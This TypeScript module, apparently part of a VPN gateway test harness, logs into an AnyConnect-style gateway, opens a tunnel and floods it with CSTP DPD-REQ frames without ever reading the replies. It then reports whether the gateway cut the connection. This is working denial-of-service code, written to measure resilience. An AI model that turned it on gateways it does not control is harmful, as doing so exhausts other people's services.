/**
 * DPD flood from an authenticated client: a proper login with its own account (aggregate-auth
 * XML), CONNECT, then CSTP DPD-REQ frames (src/protocol/cstp.ts) as fast as the socket takes them,
 * never reading a byte: every DPD-RESP the gateway owes piles up on the gateway's side.
 *
 * Outcome from this side: cut off (a write failed or the connection closed during the window),
 * half-closed (only the FIN, seen when reading at the end), or open at the end.
 */
import { CSTP_DPD_REQ } from '../../../src/protocol/cstp.js';
import { formatConnectRequest } from '../../../src/protocol/connect-headers.js';
import { drainForFin, login, onWindowEnd, USER_AGENT, windowOpen, type Target } from './net.js';

export interface DpdFloodOptions extends Target {
  user: string;
  password: string;
  endAt: number;
  /** DPD-REQ frames per write */
  framesPerWrite: number;
  /** stop after this many frames (a bound, far above what the window allows) */
  maxFrames: number;
}

export interface DpdFloodReport {
  login: string;
  connect: string;
  outcome: 'login-failed' | 'connect-failed' | 'cut-off' | 'half-closed' | 'open-at-end';
  framesWritten: number;
  /** ms after CONNECT when the cut-off was noticed */
  cutOffAfterMs: number | null;
  /** frames per second over the time we were writing */
  rate: number;
  stalled: boolean;
  detail: string;
}

const STALL_MS = 5000;

export async function dpdFlood(o: DpdFloodOptions, progress: (msg: string) => void): Promise<DpdFloodReport> {
  const rep: DpdFloodReport = { login: '', connect: '', outcome: 'login-failed', framesWritten: 0, cutOffAfterMs: null, rate: 0, stalled: false, detail: '' };
  const l = await login(o, o.user, o.password, 30_000);
  rep.login = l.kind;
  if (l.kind !== 'success') {
    rep.detail = 'message' in l ? l.message : '';
    return rep;
  }
  const link = l.link;
  const head = formatConnectRequest({ host: o.host, userAgent: USER_AGENT, cookie: l.cookie, hostname: 'dpd-flooder', baseMtu: 1500, mtu: 1406 });
  try {
    const res = await link.request(head, { connect: true, timeoutMs: 15_000 });
    rep.connect = `HTTP ${res.status}`;
    if (res.status !== 200) {
      rep.outcome = 'connect-failed';
      link.sock.destroy();
      return rep;
    }
  } catch (e) {
    rep.outcome = 'connect-failed';
    rep.connect = (e as Error).message;
    link.sock.destroy();
    return rep;
  }
  link.detach();
  const sock = link.sock;
  sock.pause();
  const t0 = Date.now();
  let closed = false;
  const onClosed = (why: string): void => {
    if (closed) return;
    closed = true;
    rep.detail = why;
    rep.cutOffAfterMs = Date.now() - t0;
  };
  sock.on('error', (e: NodeJS.ErrnoException) => onClosed(`${e.code ?? ''} ${e.message}`.trim()));
  const closedP = new Promise<boolean>((r) => sock.once('close', () => (onClosed('closed'), r(false))));
  const chunk = Buffer.concat(Array.from({ length: o.framesPerWrite }, () => CSTP_DPD_REQ));
  const tick = setInterval(() => progress(`${rep.framesWritten} DPD-REQ written${rep.stalled ? ' (stalled)' : ''}`), 5000);
  try {
    while (!closed && windowOpen() && rep.framesWritten < o.maxFrames) {
      const stall = setTimeout(() => (rep.stalled = true), STALL_MS);
      let cancelEnd: () => void = () => undefined;
      const written = new Promise<boolean>((resolve) =>
        sock.write(chunk, (err) => {
          if (err) {
            onClosed(err.message);
            return resolve(false);
          }
          rep.framesWritten += o.framesPerWrite;
          resolve(true);
        }),
      );
      const windowOver = new Promise<boolean>((resolve) => (cancelEnd = onWindowEnd(() => resolve(false))));
      const ok = await Promise.race([written, windowOver, closedP]);
      clearTimeout(stall);
      cancelEnd();
      if (!ok) break;
    }
  } finally {
    clearInterval(tick);
  }
  rep.rate = Math.round(rep.framesWritten / Math.max(0.001, (Date.now() - t0) / 1000));
  const cutOff = closed;
  const finSeen = closed ? false : (await drainForFin(sock)).finSeen;
  sock.destroy();
  rep.outcome = cutOff ? 'cut-off' : finSeen ? 'half-closed' : 'open-at-end';
  return rep;
}
